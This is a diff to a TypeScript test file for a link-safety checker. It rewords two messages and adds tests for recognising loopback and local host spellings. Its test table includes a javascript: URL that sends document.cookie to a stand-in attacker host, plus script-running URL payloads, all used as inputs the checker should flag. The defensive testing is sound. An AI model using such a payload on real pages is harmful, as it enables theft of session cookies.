@@ -28,7 +28,7 @@ function say(url: string, readers?: readonly URLReader[]): string[] {
   });
 }
 
-const advice = 'Open it only if you know whose it is.';
+const advice = 'Open it only if you know who owns it.';
 const looksLike = (known: string, name: string) => [
   `bad: This name may deceive. It looks like \`${known}\`, but is \`${name}\`. ${advice}`,
 ];
@@ -69,8 +69,8 @@ const table: Readonly<Record<string, readonly string[]>> = {
   'JavaScript://example.org/%0Aalert(1)': runsCode,
   'vbscript:x': runsCode,
   "javascript:fetch('https://evil.example/'+document.cookie)": runsCode,
-  'data:,x': ['plain: This parses. No program connects to a host for it.'],
-  'mailto:ann@example.org': ['plain: This parses. No program connects to a host for it.'],
+  'data:,x': ['plain: This parses. No program connects to a host.'],
+  'mailto:ann@example.org': ['plain: This parses. No program connects to a host.'],
   // Only an address that was checked is good.
   'http://192.0.32.8/': ['good: Programs agree. All 10 connect to `192.0.32.8`, a public address.'],
   'http://10.0.0.1/': [
@@ -93,6 +93,52 @@ const table: Readonly<Record<string, readonly string[]>> = {
     'warn: Did you mean this? `https://example.org/a` This looks like a host. Write a scheme before it, such as https://.',
   ],
 };
+
+const ownHosts = [
+  'localhost',
+  'LOCALHOST.',
+  'app.localhost:3000',
+  '127.0.0.1',
+  '127.255.255.254:8080',
+  '127.1',
+  '0x7f000001',
+  '0',
+  '0.0.0.0',
+  '[::1]',
+  '[::]',
+  '[::ffff:127.0.0.1]',
+];
+const otherHosts = [
+  'localhost.example.org',
+  'notlocalhost.com',
+  '126.255.255.255',
+  '128.0.0.1',
+  '10.0.0.1',
+  '0.0.0.1',
+  '[::2]',
+  '[::ffff:10.0.0.1]',
+  // Translated by a gateway, which reaches itself.
+  '[64:ff9b::127.0.0.1]',
+];
+const saysOwn = (url: string): boolean =>
+  find(url).some(({ title }) => title === 'This is your own computer.');
+
+for (const scheme of ['http', 'https', 'ws', 'postgres']) {
+  test(`a reader is told which hosts are their own computer, with ${scheme}`, (t) => {
+    const link = (host: string): string => `${scheme}://${host}/reset?token=1`;
+    // Only special schemes have other spellings of addresses.
+    const written =
+      scheme === 'postgres' ? ownHosts.filter((host) => !/^0|7.1$/.test(host)) : ownHosts;
+    t.deepEqual(
+      written.filter((host) => !saysOwn(link(host))),
+      [],
+    );
+    t.deepEqual(
+      otherHosts.filter((host) => saysOwn(link(host))),
+      [],
+    );
+  });
+}
 
 for (const [url, expected] of Object.entries(table)) {
   test(url, (t) => t.deepEqual(say(url), expected));
